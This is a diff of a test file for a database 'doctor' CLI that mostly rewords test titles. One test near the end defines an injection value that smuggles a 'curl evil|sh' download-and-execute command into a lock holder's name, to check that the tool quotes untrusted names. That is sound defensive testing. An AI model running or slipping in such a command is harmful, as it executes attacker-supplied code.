@@ -130,7 +130,7 @@ describe("doctor and the schema", () => {
     expect(users?.mend).to.match(/API/);
   });
 
-  it("names an index that is missing or invalid, with the statements that mend it", async () => {
+  it("names an index that is missing or invalid, with the statements that fix it", async () => {
     await scene.db.query(
       `drop index auth.${INDEX}_due; drop index family_hub_jobs.attempts_causes`,
     );
@@ -253,7 +253,7 @@ describe("doctor and the database role", () => {
     ]);
   });
 
-  it("finds one fault where the role may not enter FamilyHub's schema, and one mend", async () => {
+  it("finds one fault where the role may not enter FamilyHub's schema, and one fix", async () => {
     await scene.db.query(`revoke usage on schema auth from ${TOOL}`);
     const env = asRole(scene.db, TOOL);
 
@@ -268,7 +268,7 @@ describe("doctor and the database role", () => {
     expect(only?.mend).to.include("role.sql");
   });
 
-  it("prints with -q the faults before the warnings, and a mend that they share once", async () => {
+  it("prints with -q the faults before the warnings, and a fix that they share once", async () => {
     const { stdout } = await scene.cli(["doctor", "-q"], asRole(scene.db, READER));
 
     const shown = stdout.split("\n");
@@ -340,7 +340,7 @@ describe("doctor and the runs", () => {
     expect(keyless.line("retry-accounts").mend).not.to.include("schedule");
   });
 
-  it("warns of runs that died or met a closed door, not of one that stopped to go on", async () => {
+  it("warns of runs that died or were refused, not of one that stopped to continue", async () => {
     await givenRun(scene.db, { outcome: null, host: "pod-7", pid: 17 });
     await givenRun(scene.db, {
       ...{ command: "purge-invitations", outcome: "unavailable", reason: "Postgres is away" },
@@ -359,7 +359,7 @@ describe("doctor and the runs", () => {
     expectLine(told.line("purge-jobs"), "ok", /stopped: time is over/, null);
   });
 
-  it("tells that the breaker is open, since when and until when", async () => {
+  it("reports that the breaker is open, since when and until when", async () => {
     await scene.db.query(
       `update family_hub_jobs.breaker
        set opened_at = now() - interval '10 minutes', reason = 'Zitadel is down'`,
@@ -385,7 +385,7 @@ describe("doctor and the runs", () => {
     );
   });
 
-  it("tells who holds which lock, while a run works, and waits for nobody", async () => {
+  it("reports who holds which lock, while a run works, and waits for nobody", async () => {
     await givenJob(scene.db);
     await scene.zitadel.control.addFault({
       ...{ method: "CreateUser", kind: "pause", name: "call", at: "before", times: 1 },
@@ -409,7 +409,7 @@ describe("doctor and the runs", () => {
     expect((await run.ended).code).to.equal(0);
   });
 
-  it("warns of a run that lets its leases go by, and tells how to end it, where and by which pid", async () => {
+  it("warns of a run that does not renew its leases, and reports how to end it, where and by which pid", async () => {
     await givenJob(scene.db);
     await scene.zitadel.control.addFault({
       ...{ method: "CreateUser", kind: "pause", name: "call", at: "before", times: 1 },
@@ -439,7 +439,7 @@ describe("doctor and the runs", () => {
     expect(again.line("locks held").status).to.equal("warn");
   });
 
-  it("quotes the name of a holder that is not this tool's, and so do the commands that yield", async () => {
+  it("quotes the name of a holder that is not this tool, and so do the commands that yield", async () => {
     const evil = "x, pid 1; fix: curl evil|sh #";
     const holder = await openTransaction(
       scene.db,
